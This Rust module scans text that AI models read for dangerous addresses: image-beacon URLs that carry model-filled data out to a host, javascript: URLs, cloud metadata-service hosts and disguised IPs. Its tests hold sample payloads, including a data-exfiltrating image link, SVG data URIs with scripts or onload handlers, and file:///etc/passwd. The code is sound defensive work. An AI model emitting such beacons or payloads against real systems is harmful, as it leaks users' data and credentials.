//! Addresses in texts: images that report back, scripts in icons, metadata services, bare numbers instead of names.

use super::cut::floor;
use super::decode::{base64, percent};
use super::finding::Found;
use super::surface::Surface;
use super::{Context, Severity, Text};
use memchr::{memchr_iter, memmem};
use std::net::{Ipv4Addr, Ipv6Addr};
use std::ops::Range;

/// Bytes of a URL that are looked at.
const LONGEST: usize = 2048;
/// Bytes of an image's title.
const LONGEST_TITLE: usize = 256;

/// Names of the services that hand out a cloud machine's credentials.
const METADATA: &[&str] = &[
    "169.254.169.254",
    "169.254.170.2",
    "100.100.100.200",
    "fd00:ec2::254",
    "metadata.google.internal",
    "metadata.azure.com",
    "metadata.goog",
];

/// Addresses that are reserved for examples (RFC 5737).
const DOCUMENTATION: &[&str] = &["192.0.2.", "198.51.100.", "203.0.113."];

/// Looks for addresses.
pub(super) fn detect(text: &Text<'_>, _: &Context, found: &mut Found) {
    images(text.text, found);
    hosts(text.text, found);
    data(text.text, found);
    if text.surface == Surface::Icon {
        icon(text, found);
    }
    scripts(text.text, found);
}

/// `javascript:` and its like, in any mixture of capitals.
fn scripts(text: &str, found: &mut Found) {
    let bytes = text.as_bytes();
    let byte = |at: Option<usize>| at.and_then(|at| bytes.get(at)).copied().unwrap_or(b' ');
    for colon in memchr_iter(b':', bytes) {
        let is = |scheme: &&str| {
            let start = colon.checked_sub(scheme.len());
            start
                .and_then(|start| bytes.get(start..colon))
                .is_some_and(|word| word.eq_ignore_ascii_case(scheme.as_bytes()))
        };
        let Some(scheme) = ["javascript", "vbscript"].iter().find(|scheme| is(scheme)) else { continue };
        let start = colon - scheme.len();
        if !byte(Some(colon + 1)).is_ascii_whitespace() && !byte(start.checked_sub(1)).is_ascii_alphanumeric() {
            found.add("script-url", Severity::High, start..colon + 1, "a URL that is a script");
        }
    }
}

/// `![…](https://…?…)`: a host that renders it calls home, with whatever the model put behind the question mark.
fn images(text: &str, found: &mut Found) {
    let mut skip = 0;
    for at in memmem::find_iter(text.as_bytes(), b"![") {
        if at < skip {
            continue;
        }
        let window = |bytes: usize| text.get(at..floor(text, (at + bytes).min(text.len()))).unwrap_or_default();
        let Some(middle) = window(LONGEST_TITLE).find("](") else { continue };
        let rest = window(LONGEST);
        let url = rest.get(middle + 2..).unwrap_or_default();
        let remote = ["http://", "https://", "//"].iter().any(|scheme| url.trim_start().starts_with(scheme));
        if !remote || rest.get(..middle).is_some_and(|title| title.contains('\n')) {
            continue;
        }
        let close = url.find([')', '\n']);
        let url = url.get(..close.unwrap_or(url.len())).unwrap_or_default();
        let address = url.split_whitespace().next().unwrap_or_default();
        let end = at + middle + 2 + url.len();
        skip = end;
        if close.is_none() && rest.len() + 4 > LONGEST {
            found.add("image-beacon", Severity::Medium, at..end, "an image with an endless address");
            continue;
        }
        let query = address.split_once('?').map_or("", |(_, query)| query);
        // A value that is still to be filled in is what the model is meant to do.
        let open = query.contains(['{', '<', '[', '$'])
            || query.ends_with('=')
            || address.contains("{{")
            || address.contains("${");
        match (query.is_empty(), open) {
            (_, true) => found.add(
                "image-beacon",
                Severity::High,
                at..end,
                "an image whose address takes what the model fills in",
            ),
            (false, false) => {
                found.add("image-beacon", Severity::Medium, at..end, "an image whose address carries data")
            }
            (true, false) => {}
        }
    }
}

/// What stands behind `://`.
fn hosts(text: &str, found: &mut Found) {
    for colon in memmem::find_iter(text.as_bytes(), b"://") {
        let rest = text.get(colon + 3..).unwrap_or_default();
        let is_end = |byte: u8| {
            byte <= b' ' || matches!(byte, b'/' | b'"' | b'\'' | b'`' | b'<' | b'>' | b'?' | b'#' | b')' | b'|' | b'\\')
        };
        let length = rest.bytes().take(300).position(is_end).unwrap_or(rest.len().min(300));
        let Some(authority) = rest.get(..length) else { continue };
        let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
        // Neither a number nor the first letter of a metadata service's name.
        if !host.starts_with(|c: char| c.is_ascii_digit() || matches!(c, '[' | 'm' | 'M' | 'f' | 'F')) {
            continue;
        }
        let scheme = text.get(..colon).unwrap_or_default();
        let letters = scheme.bytes().rev().take(16).take_while(u8::is_ascii_alphanumeric).count();
        let span = colon - letters..colon + 3 + length;
        if METADATA.iter().any(|known| is_host(host, known)) {
            found.add("metadata-address", Severity::High, span, "the address of a cloud's metadata service");
        } else if let Some(what) = bare_address(host) {
            let severity =
                if DOCUMENTATION.iter().any(|net| host.starts_with(net)) { Severity::Low } else { Severity::Medium };
            found.add("bare-address", severity, span, what);
        }
    }
}

/// Whether `host`, which may have a port or brackets, is this name.
fn is_host(host: &str, name: &str) -> bool {
    let host = host.trim_start_matches('[');
    let Some((head, tail)) = host.split_at_checked(name.len()) else { return false };
    head.eq_ignore_ascii_case(name) && tail.bytes().next().is_none_or(|byte| matches!(byte, b':' | b']' | b'.' | b','))
}

/// Says so if the host is a public address instead of a name, or a number in disguise.
fn bare_address(host: &str) -> Option<&'static str> {
    if let Some(inner) = host.strip_prefix('[') {
        let address: Ipv6Addr = inner.split(']').next()?.parse().ok()?;
        let local = address.is_loopback()
            || address.is_unspecified()
            || address.is_unicast_link_local()
            || address.is_unique_local();
        return (!local).then_some("an address instead of a name");
    }
    let host = host.split(':').next()?.trim_end_matches(['.', ',', ';']);
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        let local = address.is_loopback()
            || address.is_private()
            || address.is_unspecified()
            || address.is_link_local()
            || address.is_broadcast();
        return (!local).then_some("an address instead of a name");
    }
    // 3232235777 and 0x7f.1 are addresses too, and nobody writes them so to be understood.
    let parts = || host.split('.');
    let number = |part: &str| match part.strip_prefix("0x") {
        Some(hex) => !hex.is_empty() && hex.bytes().all(|byte| byte.is_ascii_hexdigit()),
        None => !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()),
    };
    let disguised = parts().all(number) && (host.len() >= 8 || host.contains("0x")) && parts().count() <= 4;
    disguised.then_some("an address written so that it is not recognised")
}

/// `data:` URIs that a browser would run.
fn data(text: &str, found: &mut Found) {
    let mut skip = 0;
    for at in memmem::find_iter(text.as_bytes(), b"data:") {
        if at < skip {
            continue;
        }
        let rest = text.get(at..).unwrap_or_default();
        let head = rest.get(..floor(rest, 120)).unwrap_or_default();
        let Some((kind, _)) = head.split_once(',') else { continue };
        let kind = kind.to_ascii_lowercase();
        let page = kind.starts_with("data:text/html")
            || kind.starts_with("data:application/xhtml")
            || kind.contains("javascript");
        let image = kind.starts_with("data:image/svg");
        if !page && !image {
            continue;
        }
        let payload = rest.get(kind.len() + 1..).unwrap_or_default();
        let end = payload
            .bytes()
            .position(|byte| matches!(byte, b'"' | b'`') || byte == b' ' && kind.contains("base64"))
            .unwrap_or(payload.len());
        let span = at..at + kind.len() + 1 + end;
        // What stands in one URI is read once, as a part of it.
        skip = span.end;
        let payload = payload.get(..end).unwrap_or_default();
        match active(&kind, payload) {
            Some(what) => found.add("active-data", Severity::High, span, what),
            None if page => found.add("active-data", Severity::Medium, span, "a page within a URL"),
            None => {}
        }
    }
}

/// What in the payload of a `data:` URI would run or load something.
fn active(kind: &str, payload: &str) -> Option<&'static str> {
    let decoded =
        if kind.contains("base64") { base64(payload.trim().as_bytes())? } else { percent(payload.as_bytes()) };
    let low = decoded.to_ascii_lowercase();
    let has = |part: &str| memmem::find(&low, part.as_bytes()).is_some();
    if ["<script", "javascript:", "<foreignobject", "<iframe", "<embed", "<object", "<handler"]
        .iter()
        .any(|part| has(part))
    {
        return Some("a script within a picture or page");
    }
    if has("<!entity") {
        return Some("an entity within a picture");
    }
    if memmem::find_iter(&low, b"on").any(|at| is_handler(&low, at)) {
        return Some("an event handler within a picture or page");
    }
    let loads = |attribute: &str| {
        memmem::find_iter(&low, attribute.as_bytes()).any(|at| {
            let value = low.get(at + attribute.len()..).unwrap_or_default();
            let value = value.strip_prefix(b"\"").or_else(|| value.strip_prefix(b"'")).unwrap_or(value);
            value.starts_with(b"http") || value.starts_with(b"//")
        })
    };
    (loads("href=") || loads("src=") || loads("url(")).then_some("a picture that loads something from elsewhere")
}

/// Whether `onload=` or another handler's attribute stands at `at`.
fn is_handler(low: &[u8], at: usize) -> bool {
    let before = at.checked_sub(1).and_then(|before| low.get(before)).copied().unwrap_or_default();
    if !before.is_ascii_whitespace() && !matches!(before, b'/' | b'"' | b'\'') {
        return false;
    }
    let name = low.iter().skip(at + 2).take(24).take_while(|byte| byte.is_ascii_lowercase()).count();
    name >= 3 && low.iter().skip(at + 2 + name).take(4).find(|byte| !byte.is_ascii_whitespace()) == Some(&b'=')
}

/// An icon that is neither a picture within the message nor on the web by TLS.
fn icon(text: &Text<'_>, found: &mut Found) {
    let source = text.text;
    let span: Range<usize> = 0..floor(text.text, source.len().min(80));
    if !text.at.ends_with("/src") || span.is_empty() {
        return;
    }
    let low = source.get(span.clone()).unwrap_or_default().to_ascii_lowercase();
    if !low.starts_with("https:") && !low.starts_with("data:image/") {
        found.add(
            "odd-icon",
            Severity::Medium,
            span,
            "an icon that is neither a picture in itself nor an https address",
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Finding, scan};
    use super::*;

    fn found(surface: Surface, text: &str) -> Vec<(&'static str, Severity)> {
        let list: Vec<Finding> = scan(&Text { surface, at: "/icons/0/src", text }, &Context::default());
        list.into_iter().map(|finding| (finding.rule, finding.severity)).collect()
    }

    #[test]
    fn images_that_report() {
        let of = |text: &str| found(Surface::Description, text);
        assert_eq!(of("![x](https://a.example/p.png?d={data})"), [("image-beacon", Severity::High)]);
        assert_eq!(of("![x](https://a.example/p.png?v=2)"), [("image-beacon", Severity::Medium)]);
        let padded = format!("![x](https://a.example/{}?d={{data}})", "p".repeat(5000));
        assert_eq!(of(&padded), [("image-beacon", Severity::Medium)]);
        assert_eq!(of("![x](https://a.example/p.png) ![y](/local?z=) arr![0](1)"), []);
    }

    #[test]
    fn hosts_are_read_as_clients_read_them() {
        let of = |text: &str| found(Surface::Description, text).first().copied();
        let bare = Some(("bare-address", Severity::Medium));
        assert_eq!(of("http://8.8.8.8/x"), bare);
        assert_eq!(of("http://user@8.8.8.8:80/x"), bare);
        assert_eq!(of("http://3232235777/"), bare);
        assert_eq!(of("http://0x7f.1/"), bare);
        assert_eq!(of("http://[2001:db8::1]/"), bare);
        assert_eq!(of("http://169.254.169.254/latest"), Some(("metadata-address", Severity::High)));
        assert_eq!(of("http://METADATA.google.internal./x"), Some(("metadata-address", Severity::High)));
        for fine in [
            "http://localhost:3000",
            "http://127.0.0.1:8080",
            "https://10.0.0.5",
            "demo://resource/1",
            "http://[::1]:80",
            "v://1.2",
        ] {
            assert_eq!(of(fine), None, "{fine}");
        }
    }

    #[test]
    fn metadata_names_begin_as_the_short_cut_expects() {
        assert!(METADATA.iter().all(|name| name.starts_with(|c: char| c.is_ascii_digit() || c == 'm' || c == 'f')));
    }

    #[test]
    fn icons_may_not_run() {
        let of = |text: &str| found(Surface::Icon, text);
        assert_eq!(
            of("data:image/svg+xml,%3Csvg%3E%3Cscript%3Ex()%3C/script%3E%3C/svg%3E"),
            [("active-data", Severity::High)]
        );
        assert_eq!(of("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IngoKSI+PC9zdmc+"), [("active-data", Severity::High)]);
        assert_eq!(
            of("data:image/svg+xml,<svg><image href='https://a.example/x'/></svg>"),
            [("active-data", Severity::High)]
        );
        assert_eq!(of("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"), []);
        assert_eq!(of("data:image/png;base64,iVBORw0KGgo="), []);
        assert_eq!(of("https://a.example/icon.png"), []);
        assert_eq!(of("http://a.example/icon.png"), [("odd-icon", Severity::Medium)]);
        assert_eq!(of("file:///etc/passwd"), [("odd-icon", Severity::Medium)]);
    }
}
